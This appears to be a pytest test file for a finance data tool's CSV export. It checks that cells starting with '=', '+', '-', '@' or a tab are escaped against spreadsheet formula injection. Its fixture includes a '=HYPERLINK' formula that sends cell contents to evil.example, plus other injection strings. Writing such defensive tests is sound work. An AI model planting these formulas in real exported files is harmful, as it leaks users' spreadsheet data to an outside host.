"""CSV outputs never carry a cell a spreadsheet would run as a formula (OWASP CSV injection)."""

import csv
import io
import json

import pandas as pd
import pytest

from exposure.cli import main
from exposure.datasets import sample_path
from exposure.io import csv_safe

NASTY_IDS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "@SUM(A1:A9)", "-2+3"]
US = str(sample_path("prices/us_close_2019_2026.csv.gz"))


def rows(text):
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def nasty_events(tmp_path):
    path = tmp_path / "events.jsonl"
    path.write_text("".join(json.dumps({
        "id": event_id, "headline": "Russia invades Ukraine; European airspace closed, airlines cancel flights",
        "published_at": "2022-02-24T03:00:00+00:00", "tags": ["Geopolitics & War"], "market_impact": 0.8,
    }) + "\n" for event_id in NASTY_IDS))
    return str(path)


def test_csv_safe_escapes_text_and_keeps_numbers():
    frame = pd.DataFrame({"id": ["=1+1", "ok", "\tx", None], "score": [-0.5, 0.25, -1e-9, 2.0],
                          "n": [1, -2, 3, 4], "flag": [True, False, True, False]},
                         index=pd.Index(["@a", "b", "+c", "d"], name="key"))
    frame.columns = ["id", "score", "n", "flag"]
    safe = csv_safe(frame)
    assert safe["id"].tolist()[:3] == ["'=1+1", "ok", "'\tx"] and safe["id"].isna().tolist()[3]
    assert safe["score"].tolist() == [-0.5, 0.25, -1e-9, 2.0] and safe["score"].dtype == float
    assert safe["n"].tolist() == [1, -2, 3, 4] and safe["flag"].dtype == bool
    assert safe.index.tolist() == ["'@a", "b", "'+c", "d"]
    assert frame["id"].iloc[0] == "=1+1"  # the input is not changed
    assert csv_safe(pd.DataFrame({"=x": [1.0]})).columns.tolist() == ["'=x"]


def test_map_csv_escapes_event_ids_and_keeps_negative_scores(capsys, nasty_events):
    assert main(["map", nasty_events, "--format", "csv", "--top", "400"]) == 0
    table = rows(capsys.readouterr().out)
    ids = {row["event_id"] for row in table}
    assert ids == {"'" + event_id for event_id in NASTY_IDS}
    for row in table:
        assert not row["event_id"].startswith(("=", "+", "-", "@", "\t"))
        float(row["score"])  # a number, even when negative
    assert any(float(row["score"]) < 0 for row in table) and not any(row["score"].startswith("'") for row in table)


def test_csv_raw_turns_escaping_off(capsys, nasty_events):
    assert main(["map", nasty_events, "--format", "csv", "--top", "1", "--csv-raw"]) == 0
    assert {row["event_id"] for row in rows(capsys.readouterr().out)} == set(NASTY_IDS)


def test_study_csv_escapes_event_ids(capsys, nasty_events):
    assert main(["study", "--events", nasty_events, "--prices", US, "--tickers", "LMT", "--format", "csv"]) == 0
    table = rows(capsys.readouterr().out)
    assert {row["event_id"] for row in table} == {"'" + event_id for event_id in NASTY_IDS}
    assert all(float(row["car"]) == float(row["car"]) for row in table)


def test_prices_csv_escapes_ticker_headers(capsys, tmp_path):
    path = tmp_path / "prices.csv"
    path.write_text("date,=EVIL(),LMT\n2024-01-02,-1.5,400\n2024-01-03,2.5,401\n")
    assert main(["prices", "--source", "local", str(path), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert out.splitlines()[0] == "date,'=EVIL(),LMT"
    assert out.splitlines()[2] == "2024-01-03,2.5,401"


def test_portfolio_csv_is_escaped(capsys, tmp_path):
    path = tmp_path / "book.csv"
    path.write_text("ticker,weight\nLMT,0.5\nRTX,0.5\n")
    assert main(["portfolio", str(path), "--format", "csv"]) == 0
    table = rows(capsys.readouterr().out)
    assert table and all(not cell.startswith(("=", "+", "@")) for row in table for cell in row.values() if cell)
